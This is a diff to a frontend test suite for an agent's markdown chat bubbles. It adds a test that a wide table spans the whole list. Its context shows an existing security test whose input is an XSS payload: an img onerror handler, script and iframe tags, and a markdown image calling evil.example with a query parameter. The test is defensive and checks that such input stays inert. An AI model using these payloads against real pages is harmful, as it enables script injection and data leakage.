@@ -55,6 +55,12 @@ describe('Markdown of the agent', () => {
     expect(bubble.querySelector('.scroller')!.scrollWidth).to.be.at.least(bubble.querySelector('table')!.offsetWidth);
   });
 
+  it('lets a wide table have the width of the whole list', async () => {
+    const row = `|${' Larkspur |'.repeat(20)}`;
+    const bubble = await say(turn(`${row}\n|${'---|'.repeat(20)}\n${row}`));
+    expect(bubble.getBoundingClientRect().width).to.equal(bubble.closest('.block')!.getBoundingClientRect().width);
+  });
+
   it('leaves HTML as text, and fetches no picture', async () => {
     const attack =
       '**x** <img src=x onerror="alert(1)"> <script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n![secret](https://evil.example/?q=42)';
